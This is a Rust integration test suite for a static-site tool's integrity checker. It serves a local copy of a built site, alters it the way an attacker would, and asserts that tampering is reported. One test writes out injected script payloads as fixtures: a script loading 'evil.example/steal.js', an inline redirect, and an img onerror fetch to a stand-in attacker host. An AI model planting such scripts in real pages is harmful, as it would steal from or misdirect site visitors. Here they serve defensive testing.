//! `cahier verify` against a live site: the example is built, a copy of the output is served
//! by a local HTTP server (which applies `_headers` like a CDN and can be told to redirect a
//! path or drop a header), the copy is altered the way an attacker would, and the real binary
//! must report each change with a non-zero exit.

mod common;

use axum::extract::{Request, State};
use axum::http::{header, HeaderName, HeaderValue, StatusCode};
use axum::middleware::{self, Next};
use axum::response::{IntoResponse, Response};
use cahier::verify::HeaderRules;
use std::collections::{HashMap, HashSet};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{mpsc, Arc, Mutex};
use std::time::{Duration, Instant};
use tower_http::services::ServeDir;

/// Files of the example site that `verify` checks: every file of `integrity.json` (the
/// 59 built files less `integrity.json` itself and `_headers`, which no CDN serves).
const CHECKED: usize = 57;

/// What the server does besides serving files.
#[derive(Default)]
struct Tamper {
    /// URL path -> Location of a 302.
    redirects: Mutex<HashMap<String, String>>,
    /// URL paths served without the Content-Security-Policy header.
    no_csp_header: Mutex<HashSet<String>>,
    /// URL paths answered only after 5 s.
    slow: Mutex<HashSet<String>>,
    rules: HeaderRules,
}

async fn cdn(State(t): State<Arc<Tamper>>, req: Request, next: Next) -> Response {
    let path = req.uri().path().to_string();
    if let Some(loc) = t.redirects.lock().unwrap().get(&path).cloned() {
        return (StatusCode::FOUND, [(header::LOCATION, loc)]).into_response();
    }
    if t.slow.lock().unwrap().contains(&path) {
        tokio::time::sleep(Duration::from_secs(5)).await;
    }
    let mut resp = next.run(req).await;
    let skip_csp = t.no_csp_header.lock().unwrap().contains(&path);
    for (name, value) in t.rules.headers_for(&path) {
        if skip_csp && name.eq_ignore_ascii_case("content-security-policy") {
            continue;
        }
        resp.headers_mut().append(
            HeaderName::from_bytes(name.as_bytes()).unwrap(),
            HeaderValue::from_str(value).unwrap(),
        );
    }
    resp
}

/// A static server on a free loopback port, stopped on drop.
struct Server {
    url: String,
    tamper: Arc<Tamper>,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Server {
    fn start(dir: &Path) -> Server {
        let rules =
            HeaderRules::parse(&std::fs::read_to_string(dir.join("_headers")).unwrap()).unwrap();
        let tamper = Arc::new(Tamper {
            rules,
            ..Default::default()
        });
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let app = axum::Router::new()
            .fallback_service(ServeDir::new(dir))
            .layer(middleware::from_fn_with_state(tamper.clone(), cdn));
        let thread = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                let listener = tokio::net::TcpListener::from_std(listener).unwrap();
                axum::serve(listener, app)
                    .with_graceful_shutdown(async {
                        let _ = stopped.await;
                    })
                    .await
                    .unwrap();
            });
        });
        Server {
            url,
            tamper,
            stop: Some(stop),
            thread: Some(thread),
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(s) = self.stop.take() {
            let _ = s.send(());
        }
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The example built into `<tmp>/public`, and a copy of it that the server serves.
struct Site {
    // Fields drop in order: the server stops before its folder goes.
    server: Server,
    manifest: PathBuf,
    served: PathBuf,
    _tmp: tempfile::TempDir,
    _src: tempfile::TempDir,
}

impl Site {
    fn new() -> Site {
        let src = common::example_site();
        let tmp = tempfile::tempdir().unwrap();
        let public = tmp.path().join("public");
        let o = Command::new(env!("CARGO_BIN_EXE_cahier"))
            .arg("--root")
            .arg(src.path())
            .arg("build")
            .arg("--out")
            .arg(&public)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
        let served = tmp.path().join("live");
        for (rel, bytes) in common::files(&public) {
            common::write(&served, &rel, "");
            std::fs::write(served.join(&rel), bytes).unwrap();
        }
        let server = Server::start(&served);
        Site {
            _src: src,
            manifest: public.join("integrity.json"),
            served,
            server,
            _tmp: tmp,
        }
    }

    fn command(&self, extra: &[&str]) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_cahier"));
        c.arg("verify")
            .arg(&self.server.url)
            .arg("--manifest")
            .arg(&self.manifest)
            .args(extra);
        if !extra.contains(&"--timeout") {
            c.args(["--timeout", "10s"]);
        }
        c
    }

    fn verify(&self, extra: &[&str]) -> Output {
        self.command(extra).output().unwrap()
    }

    fn edit(&self, rel: &str, f: impl FnOnce(String) -> String) {
        let p = self.served.join(rel);
        let before = std::fs::read_to_string(&p).unwrap();
        let after = f(before.clone());
        assert_ne!(before, after, "the edit of {rel} changed nothing");
        std::fs::write(p, after).unwrap();
    }

    /// The served path of the fingerprinted stylesheet.
    fn css(&self) -> String {
        let name = std::fs::read_dir(self.served.join("static"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .find(|n| n.starts_with("style.") && n.ends_with(".css"))
            .expect("a fingerprinted stylesheet");
        format!("static/{name}")
    }

    /// Changes one byte of the stylesheet, keeping its size.
    fn flip_css_byte(&self) -> String {
        let css = self.css();
        let p = self.served.join(&css);
        let mut bytes = std::fs::read(&p).unwrap();
        let i = bytes.len() / 2;
        bytes[i] = if bytes[i] == b' ' { b'\t' } else { b' ' };
        std::fs::write(p, bytes).unwrap();
        css
    }
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// Asserts a failed run whose output has a line containing every one of `parts`.
fn assert_reported(o: &Output, parts: &[&str]) {
    let out = text(o);
    assert_eq!(o.status.code(), Some(1), "expected exit 1:\n{out}");
    assert!(
        out.lines().any(|l| parts.iter().all(|p| l.contains(p))),
        "no line with {parts:?} in:\n{out}"
    );
    assert!(out.contains("FAILED:"), "no summary line in:\n{out}");
}

#[test]
fn untouched_site_is_ok() {
    let site = Site::new();
    let o = site.verify(&[]);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(out.contains(&format!("ok: {CHECKED} files of")), "{out}");
    assert!(!out.contains("FAILED"), "{out}");
}

#[test]
fn one_byte_changed_in_css_is_reported() {
    let site = Site::new();
    let css = site.flip_css_byte();
    let o = site.verify(&[]);
    assert_reported(&o, &["changed", &css, "built:"]);
    // Nothing else is blamed.
    assert!(
        text(&o).contains(&format!("FAILED: 1 problems in 1 of {CHECKED} files")),
        "{}",
        text(&o)
    );
}

#[test]
fn page_redirected_to_another_site_is_reported() {
    let site = Site::new();
    site.server.tamper.redirects.lock().unwrap().insert(
        "/noel-sans-geant/".into(),
        "https://other-petition.example/sign".into(),
    );
    let o = site.verify(&[]);
    assert_reported(
        &o,
        &[
            "redirected",
            "/noel-sans-geant/:",
            "redirected to https://other-petition.example/sign (HTTP 302)",
        ],
    );
}

#[test]
fn injected_scripts_are_reported() {
    let site = Site::new();
    site.edit("noel-sans-geant/index.html", |h| {
        h.replacen(
            "</head>",
            "<script src=\"https://evil.example/steal.js\"></script></head>",
            1,
        )
    });
    site.edit("en/noel-sans-geant/thanks/index.html", |h| {
        h.replacen(
            "</body>",
            "<script>location = 'https://evil.example/'</script>\
             <img src=\"x\" onerror=\"fetch('https://evil.example/')\"></body>",
            1,
        )
    });
    let o = site.verify(&[]);
    assert_reported(
        &o,
        &[
            "/noel-sans-geant/:",
            "unexpected script: <script src=\"https://evil.example/steal.js\">",
        ],
    );
    assert_reported(
        &o,
        &[
            "/en/noel-sans-geant/thanks/:",
            "unexpected script: inline <script>",
            "location = 'https://evil.example/'",
        ],
    );
    assert_reported(
        &o,
        &[
            "/en/noel-sans-geant/thanks/:",
            "unexpected script: <img onerror=\"fetch('https://evil.example/')\">",
        ],
    );
    // The theme's own script is not blamed.
    assert!(!text(&o).contains("cahier."), "{}", text(&o));
}

#[test]
fn removed_csp_meta_and_header_are_reported() {
    let site = Site::new();
    site.edit("en/index.html", |h| {
        let start = h
            .find("<meta http-equiv=\"Content-Security-Policy\"")
            .expect("the built page has a CSP meta");
        let end = start + h[start..].find('>').unwrap() + 1;
        format!("{}{}", &h[..start], &h[end..])
    });
    site.server
        .tamper
        .no_csp_header
        .lock()
        .unwrap()
        .insert("/privacy/".into());
    let o = site.verify(&[]);
    assert_reported(&o, &["/en/:", "CSP meta removed", "default-src 'none'"]);
    assert_reported(
        &o,
        &["/privacy/:", "CSP header missing", "frame-ancestors 'none'"],
    );
    // Hosts that set headers elsewhere can skip the header check.
    let o = site.verify(&["--no-header-check"]);
    assert!(!text(&o).contains("CSP header"), "{}", text(&o));
    assert_reported(&o, &["/en/:", "CSP meta removed"]);
}

#[test]
fn missing_file_is_reported() {
    let site = Site::new();
    std::fs::remove_file(site.served.join("mediatheque-des-tanneurs/og.png")).unwrap();
    let o = site.verify(&[]);
    assert_reported(
        &o,
        &["missing", "/mediatheque-des-tanneurs/og.png", "HTTP 404"],
    );
}

#[test]
fn slow_answer_times_out_and_is_reported() {
    let site = Site::new();
    site.server
        .tamper
        .slow
        .lock()
        .unwrap()
        .insert("/en/privacy/".into());
    let o = site.verify(&["--timeout", "1s"]);
    assert_reported(&o, &["/en/privacy/:", "unreachable: timed out"]);
    assert!(text(&o).contains("FAILED: 1 problems"), "{}", text(&o));
}

#[test]
fn json_report_lists_every_problem() {
    let site = Site::new();
    let o = site.verify(&["--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["ok"], true);
    assert_eq!(v["checked"], CHECKED);
    assert_eq!(v["skipped"], serde_json::json!(["_headers"]));

    let css = site.flip_css_byte();
    std::fs::remove_file(site.served.join("robots.txt")).unwrap();
    let o = site.verify(&["--json"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["ok"], false);
    let found: Vec<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["kind"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        found,
        vec![
            ("robots.txt".to_string(), "missing".to_string()),
            (css, "changed".to_string()),
        ]
    );
}

#[test]
fn stale_manifest_is_refused_with_its_name() {
    let site = Site::new();
    let public = site.manifest.parent().unwrap();
    std::fs::write(public.join("index.html"), "<p>edited after the build</p>").unwrap();
    let o = site.verify(&[]);
    assert!(!o.status.success());
    let out = text(&o);
    assert!(out.contains("index.html does not match"), "{out}");
    assert!(out.contains("integrity.json"), "{out}");
}

/// Kills the watcher if the test fails before it exits.
struct Watcher(Child);

impl Drop for Watcher {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn watch_exits_at_the_first_mismatch() {
    let site = Site::new();
    let mut w = Watcher(
        site.command(&["--watch", "300ms"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let (tx, rx) = mpsc::channel();
    let stdout = w.0.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            if tx.send(line.unwrap()).is_err() {
                break;
            }
        }
    });
    let next_line = |what: &str| {
        rx.recv_timeout(Duration::from_secs(60))
            .unwrap_or_else(|_| panic!("no line from cahier verify --watch while {what}"))
    };
    // Two clean rounds first: it keeps watching while all is well.
    let mut ok_rounds = 0;
    let clean_by = Instant::now() + Duration::from_secs(60);
    while ok_rounds < 2 {
        assert!(
            Instant::now() < clean_by,
            "no two clean rounds in 60 s (a round that checks another number of files?)"
        );
        let line = next_line("waiting for clean rounds");
        assert!(!line.contains("FAILED"), "{line}");
        if line.contains(&format!("] ok: {CHECKED} files")) {
            ok_rounds += 1;
        }
    }
    assert!(
        w.0.try_wait().unwrap().is_none(),
        "exited while all was well"
    );

    let css = site.flip_css_byte();
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(s) = w.0.try_wait().unwrap() {
            break s;
        }
        assert!(
            Instant::now() < deadline,
            "still watching 60 s after the change"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(status.code(), Some(1));
    // The rest of its output, up to the end of the stream.
    let mut rest = Vec::new();
    while let Ok(line) = rx.recv_timeout(Duration::from_secs(10)) {
        rest.push(line);
    }
    assert!(
        rest.iter()
            .any(|l| l.contains("changed") && l.contains(&css)),
        "{rest:#?}"
    );
    assert!(
        rest.iter().any(|l| l.contains("FAILED: 1 problems")),
        "{rest:#?}"
    );
}
